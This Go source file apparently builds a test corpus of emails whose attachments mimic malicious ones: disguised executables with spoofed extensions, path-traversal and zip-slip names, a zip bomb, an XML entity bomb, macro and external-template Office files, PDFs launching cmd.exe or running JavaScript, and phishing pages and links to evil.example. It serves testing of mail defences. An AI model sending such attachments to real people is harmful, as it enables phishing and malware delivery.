package corpus

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"strings"
)

// file is a mail with one attachment.
func file(subject, contentType, name string, data []byte) []byte {
	return mixed(subject, textPart("Please see the file."), attached(contentType, name, data))
}

// files are attachments that are not what they say, hide something, or attack who opens them. Nothing in them works.
func files() []Mail {
	exe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), append(make([]byte, 44), append([]byte("\x80\x00\x00\x00"), append(make([]byte, 64), "PE\x00\x00d\x86"...)...)...)...)
	const pdf = "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R"
	const end = "endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
	return group("files",
		named{"program that calls itself a PDF", file("Invoice", "application/pdf", "invoice.pdf", exe)},
		named{"two endings", file("Invoice", "application/octet-stream", "invoice.pdf.exe", exe)},
		named{"name turned round", file("Invoice", "application/octet-stream", "invoice\u202efdp.exe", exe)},
		named{"spaces before the ending", file("Invoice", "application/octet-stream", "invoice.pdf"+strings.Repeat(" ", 120)+".scr", exe)},
		named{"path as a name", file("Path", "text/plain", "../../../../etc/cron.d/evil", []byte("x"))},
		named{"Windows path as a name", file("Path", "text/plain", `C:\\Windows\\System32\\evil.dll`, []byte("x"))},
		named{"device as a name", file("Device", "text/plain", "CON.txt", []byte("x"))},
		named{"name that begins with a dash", file("Dash", "text/plain", "-rf .txt", []byte("x"))},
		named{"hidden name", file("Dot", "text/plain", ".bashrc", []byte("x"))},
		named{"name of a thousand letters", file("Long name", "text/plain", long(1000)+".txt", []byte("x"))},
		named{"no name", mixed("No name", textPart("See the file."), part{[]string{"Content-Type: application/octet-stream", "Content-Disposition: attachment", "Content-Transfer-Encoding: base64"}, wrapped([]byte("x"))})},
		named{"empty file", file("Empty", "application/pdf", "empty.pdf", nil)},
		named{"zip", file("Zip", "application/zip", "files.zip", zipped(entry{"a/readme.txt", []byte("hello"), false}, entry{"a/run.js", []byte("WScript.Echo(1)"), false}))},
		named{"zip with a password, which the text tells", mixed("Your document", textPart("The password of the archive is 4711."), attached("application/zip", "document.zip", zipped(entry{"document.exe", exe, true})))},
		named{"zip that grows a thousandfold", file("Bomb", "application/zip", "bomb.zip", zipped(entry{"zeros.bin", make([]byte, 16<<20), false}))},
		named{"zip that leaves its folder", file("Slip", "application/zip", "slip.zip", zipped(entry{"../../../evil.sh", []byte("x"), false}, entry{"/etc/passwd", []byte("x"), false}))},
		named{"zip in a zip in a zip", file("Nested", "application/zip", "nested.zip", zipped(entry{"b.zip", zipped(entry{"c.zip", zipped(entry{"d.exe", exe, false}), false}), false}))},
		named{"zip that is cut", file("Cut", "application/zip", "cut.zip", zipped(entry{"a.txt", []byte(strings.Repeat("hello ", 100)), false})[:60])},
		named{"tar, compressed", file("Tar", "application/gzip", "files.tar.gz", tarred("src/main.js", "src/readme"))},
		named{"document with macros", file("Macros", "application/vnd.ms-word.document.macroEnabled.12", "order.docm", zipped(
			entry{"[Content_Types].xml", []byte(`<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`), false},
			entry{"word/document.xml", []byte(`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>`), false}, entry{"word/vbaProject.bin", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), false}))},
		named{"document with a template from outside", file("Template", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "letter.docx", zipped(
			entry{"[Content_Types].xml", []byte(`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`), false}, entry{"word/document.xml", []byte(`<w:document xmlns:w="x"/>`), false},
			entry{"word/_rels/settings.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`), false}))},
		named{"document whose XML grows", file("Laughs", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "laughs.docx", zipped(
			entry{"[Content_Types].xml", []byte(`<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><Types>&c;</Types>`), false}, entry{"word/document.xml", []byte(`<x/>`), false}))},
		named{"RTF with an object", file("RTF", "application/msword", "letter.doc", []byte(`{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata 01050000020000000800}}}`))},
		named{"PDF with JavaScript", file("PDF", "application/pdf", "form.pdf", []byte(pdf+"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"+end))},
		named{"PDF that starts a program", file("PDF", "application/pdf", "start.pdf", []byte(pdf+"/OpenAction<</S/Launch/F(cmd.exe)>>>>"+end))},
		named{"PDF with a link", file("PDF", "application/pdf", "link.pdf", []byte(pdf+">>endobj\n3 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://evil.example/pdf)>>>>"+end))},
		named{"page as an attachment", file("Secure message", "text/html", "secure.html", []byte(`<script>var x=atob('TVqQ');var b=new Blob([x]);navigator.msSaveOrOpenBlob(b,'a.zip')</script><form action="https://evil.example/p"><input type=password></form>`))},
		named{"drawing as an attachment", file("Drawing", "image/svg+xml", "logo.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>location='https://evil.example'</script></svg>`))},
		named{"shortcut", file("Shortcut", "application/octet-stream", "invoice.lnk", append([]byte("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"), make([]byte, 56)...))},
		named{"Internet shortcut", file("Shortcut", "application/octet-stream", "open.url", []byte("[InternetShortcut]\r\nURL=file://evil.example/share/a.exe\r\n"))},
		named{"OneNote section", file("Notes", "application/octet-stream", "notes.one", append([]byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"), make([]byte, 64)...))},
		named{"disc image", file("Image", "application/octet-stream", "files.iso", append(make([]byte, 32768), "\x01CD001\x01\x00"...))},
		named{"script", file("Script", "text/plain", "report.vbs", []byte("CreateObject(\"WScript.Shell\").Run \"calc\"\r\n"))},
		named{"picture of enormous size", file("Picture", "image/png", "huge.png", hugePNG())},
		named{"picture that is none", file("Picture", "image/jpeg", "photo.jpg", []byte("\xff\xd8\xff\xe0 and then nothing"))},
		named{"invitation from a stranger", mixed("Invitation: payment", within("alternative", textPart("You are invited."), part{[]string{"Content-Type: text/calendar; method=REQUEST; charset=utf-8"}, "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1\r\nORGANIZER:mailto:x@evil.example\r\nSUMMARY:Pay\r\nDTSTART:20261124T100000Z\r\nLOCATION:https://evil.example/join\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"}))},
		named{"two hundred attachments", mixed("Many files", manyFiles(200)...)},
	)
}

type entry struct {
	name   string
	data   []byte
	sealed bool // marked as encrypted
}

func zipped(list ...entry) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, e := range list {
		h := &zip.FileHeader{Name: e.name, Method: zip.Deflate}
		if e.sealed {
			h.Flags |= 1
		}
		f, err := w.CreateHeader(h)
		if err == nil {
			_, err = f.Write(e.data)
		}
		if err != nil {
			panic(err) // into memory
		}
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

func tarred(names ...string) []byte {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for _, name := range names {
		if err := w.WriteHeader(&tar.Header{Name: name, Size: 5, Mode: 0o600}); err != nil {
			panic(err)
		}
		if _, err := w.Write([]byte("hello")); err != nil {
			panic(err)
		}
	}
	for _, c := range []interface{ Close() error }{w, z} {
		if err := c.Close(); err != nil {
			panic(err)
		}
	}
	return b.Bytes()
}

// hugePNG says that it has 50,000 by 50,000 points (PNG 11.2.2), and has none.
func hugePNG() []byte {
	b := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR")
	b = binary.BigEndian.AppendUint32(b, 50_000)
	b = binary.BigEndian.AppendUint32(b, 50_000)
	return append(b, 8, 6, 0, 0, 0, 0, 0, 0, 0)
}

func manyFiles(n int) []part {
	out := []part{textPart("See the files.")}
	for range n {
		out = append(out, attached("text/plain", "file.txt", []byte("one of many")))
	}
	return out
}
